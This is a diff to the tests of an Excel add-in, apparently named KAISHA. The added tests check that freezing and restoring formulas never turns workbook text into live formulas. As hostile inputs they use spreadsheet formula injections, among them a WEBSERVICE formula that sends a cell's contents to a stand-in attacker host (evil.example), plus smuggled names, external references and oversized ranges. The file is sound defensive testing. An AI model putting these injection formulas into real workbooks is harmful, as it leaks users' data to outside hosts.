@@ -10,7 +10,7 @@ import {
   PROVENANCE_HEADER,
   type FreezeResult,
 } from "../../taskpane/excel/freeze";
-import { freezeSummary } from "../../taskpane/state/freeze-summary";
+import { freezeSummary, restoreSummary } from "../../taskpane/state/freeze-summary";
 import { translator } from "../../taskpane/i18n/messages";
 
 /** A host with ExcelApi up to `version` (Office.context.requirements). */
@@ -109,7 +109,7 @@ test("restoreFormulas(sheet): clears the frozen values, re-enters the formula, m
     ],
   });
   const result = await restoreFormulas("sheet", NOW);
-  expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [] });
+  expect(result).toEqual({ frozen: 1, cells: ["Model!B2"], skipped: [], refused: [] });
   expect(fake.log).toContain("clear Model!B2:C3 Contents");
   expect(fake.range("Model", "B2").formulas).toEqual([['=KAISHA.VALUATION("7203")']]);
   expect(fake.range("KaishaProvenance", "F2:G2").values).toEqual([
@@ -242,4 +242,193 @@ test("freezeSummary: counts frozen and skipped formulas with their reasons, ja a
   expect(freezeSummary({ frozen: 1, cells: ["S!A1"], skipped: [] }, translator("ja")).text).toBe(
     "1個の数式を値に固定しました（KaishaProvenance に記録）。",
   );
+});
+
+describe("freeze and restore never turn workbook text into formulas", () => {
+  const hostile = [
+    '=WEBSERVICE("https://evil.example/"&A1)',
+    "-",
+    "+5%",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+  ];
+
+  test("freezeFormulas: a function's text results go back as Text, numbers keep their format", async () => {
+    const fake = installFakeExcel({
+      sheets: [
+        {
+          name: "Model",
+          spills: {
+            B2: {
+              address: "Model!B2:C7",
+              values: hostile.map((text, i) => [text, i + 0.5]),
+            },
+          },
+        },
+      ],
+      selection: {
+        address: "Model!A2:B2",
+        values: [["x", hostile[0]]],
+        formulas: [["x", '=KAISHA.OFFICERS("7203")']],
+      },
+    });
+    const result = await freezeFormulas("selection", "KAISHA", NOW);
+    expect(result.frozen).toBe(1);
+    const spill = fake.range("Model", "Model!B2:C7");
+    // Written as values (no formulas in the batch), every string in a Text cell.
+    expect(spill.values).toEqual(hostile.map((text, i) => [text, i + 0.5]));
+    for (const row of spill.numberFormat as string[][]) expect(row[0]).toBe("@");
+    for (const row of spill.numberFormat as string[][]) expect(row[1]).not.toBe("@");
+  });
+
+  test("freezeFormulas: a KAISHA formula that also calls another function stays live and is listed", async () => {
+    installFakeExcel({
+      sheets: [{ name: "Model", cells: { B2: { address: "Model!B2", values: [[1]] } } }],
+      selection: {
+        address: "Model!B2",
+        values: [[1]],
+        formulas: [['=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example")']],
+      },
+    });
+    const result = await freezeFormulas("selection", "KAISHA", NOW);
+    expect(result).toEqual({
+      frozen: 0,
+      cells: [],
+      skipped: [{ address: "Model!B2", code: "WEBSERVICE", reason: "unrestorable" }],
+    });
+    const text = freezeSummary(result, translator("en")).text;
+    expect(text).toContain("WEBSERVICE");
+    expect(freezeSummary(result, translator("ja")).text).toContain("書き戻せない");
+  });
+
+  test("restoreFormulas: refuses smuggled functions, names, other sheets' and oversized ranges, and says which rows", async () => {
+    const fake = installFakeExcel({
+      active: "Model",
+      sheets: [
+        { name: "Model" },
+        {
+          name: "KaishaProvenance",
+          used: {
+            address: "KaishaProvenance!A1:G9",
+            values: [
+              [...PROVENANCE_HEADER],
+              [
+                "Model!B2",
+                '=KAISHA.PRICE(7203)+WEBSERVICE("https://evil.example/"&A1)',
+                "B2",
+                1,
+                "K",
+                "frozen",
+                "",
+              ],
+              ["Model!B3", "=KAISHA.PRICE(Secret)", "B3", 1, "K", "frozen", ""],
+              ["Model!B4", '=KAISHA.PRICE("7203")', "Other!A1:Z99", 1, "K", "frozen", ""],
+              ["Model!B5", '=KAISHA.PRICE("7203")', "A1:XFD1048576", 1, "K", "frozen", ""],
+              ["Model!B6", "=SUM(A1:A3)", "B6", 1, "K", "frozen", ""],
+              ["Model!B7:C9", '=KAISHA.PRICE("7203")', "B7", 1, "K", "frozen", ""],
+              ["Model!B8", "=KAISHA.PRICE([Book2.xlsx]Sheet1!A1)", "B8", 1, "K", "frozen", ""],
+              ["Model!B9", '=KAISHA.PRICE("7203")', "B9:B10", 1, "K", "frozen", ""],
+            ],
+          },
+        },
+      ],
+    });
+    const result = await restoreFormulas("sheet", NOW);
+    expect(result.cells).toEqual(["Model!B9"]);
+    expect(result.refused?.map((r) => [r.row, r.reason, r.detail])).toEqual([
+      [2, "formula", "WEBSERVICE"],
+      [3, "formula", "Secret"],
+      [4, "range", "Other!A1:Z99"],
+      [5, "range", "A1:XFD1048576"],
+      [6, "formula", "(no KAISHA function)"],
+      [7, "address", "Model!B7:C9"],
+      [8, "formula", "["],
+    ]);
+    // Nothing of a refused record was cleared or written.
+    expect(fake.log.filter((l) => l.startsWith("clear"))).toEqual(["clear Model!B9:B10 Contents"]);
+    for (const cell of ["B2", "B3", "B4", "B5", "B6", "B8"]) {
+      expect(fake.range("Model", cell)?.formulas ?? [[""]]).toEqual([[""]]);
+    }
+    const en = restoreSummary(result, translator("en"));
+    expect(en.intent).toBe("warning");
+    expect(en.text).toContain("row 2 (Model!B2): calls WEBSERVICE");
+    expect(en.text).toContain("row 5 (Model!B5): values range A1:XFD1048576");
+    const ja = restoreSummary(result, translator("ja")).text;
+    expect(ja).toContain("2行目（Model!B2）：WEBSERVICE を含む");
+  });
+
+  test("restoreFormulas: a values range that holds formulas is someone's work, not frozen values", async () => {
+    const fake = installFakeExcel({
+      active: "Model",
+      sheets: [
+        {
+          name: "Model",
+          cells: {
+            "B2:B4": {
+              address: "Model!B2:B4",
+              values: [[1], [2], [3]],
+              formulas: [[1], ["=A1*2"], [3]],
+            },
+          },
+        },
+        {
+          name: "KaishaProvenance",
+          used: {
+            address: "KaishaProvenance!A1:G2",
+            values: [
+              [...PROVENANCE_HEADER],
+              ["Model!B2", '=KAISHA.PRICE("7203")', "B2:B4", 1, "K", "frozen", ""],
+            ],
+          },
+        },
+      ],
+    });
+    const result = await restoreFormulas("sheet", NOW);
+    expect(result.frozen).toBe(0);
+    expect(result.refused).toEqual([
+      { row: 2, address: "Model!B2", reason: "range", detail: "B2:B4" },
+    ]);
+    expect(fake.log.some((l) => l.startsWith("clear"))).toBe(false);
+  });
+
+  test("restoreFormulas: a formula frozen from a Text cell comes back in General, so it calculates", async () => {
+    const fake = installFakeExcel({
+      active: "Model",
+      sheets: [
+        {
+          name: "Model",
+          cells: { B2: { address: "Model!B2", values: [["-"]], numberFormat: [["@"]] } },
+        },
+        {
+          name: "KaishaProvenance",
+          used: {
+            address: "KaishaProvenance!A1:G2",
+            values: [
+              [...PROVENANCE_HEADER],
+              ["Model!B2", '=KAISHA.COMPANY("7203","name")', "B2", 1, "K", "frozen", ""],
+            ],
+          },
+        },
+      ],
+    });
+    const result = await restoreFormulas("sheet", NOW);
+    expect(result.frozen).toBe(1);
+    expect(fake.range("Model", "B2").numberFormat).toEqual([["General"]]);
+    expect(fake.range("Model", "B2").formulas).toEqual([['=KAISHA.COMPANY("7203","name")']]);
+  });
+});
+
+test("freezeFormulas: text that merely reads like a KAISHA formula (an API name kept as text) is not frozen", async () => {
+  const fake = installFakeExcel({
+    sheets: [{ name: "Model" }],
+    selection: {
+      address: "Model!A2:B2",
+      values: [["=KAISHA.USAGE()", "x"]],
+      formulas: [["=KAISHA.USAGE()", "x"]],
+    },
+  });
+  const result = await freezeFormulas("selection", "KAISHA", NOW);
+  expect(result).toEqual({ frozen: 0, cells: [], skipped: [] });
+  expect(fake.sheetsAdded).toEqual([]);
 });
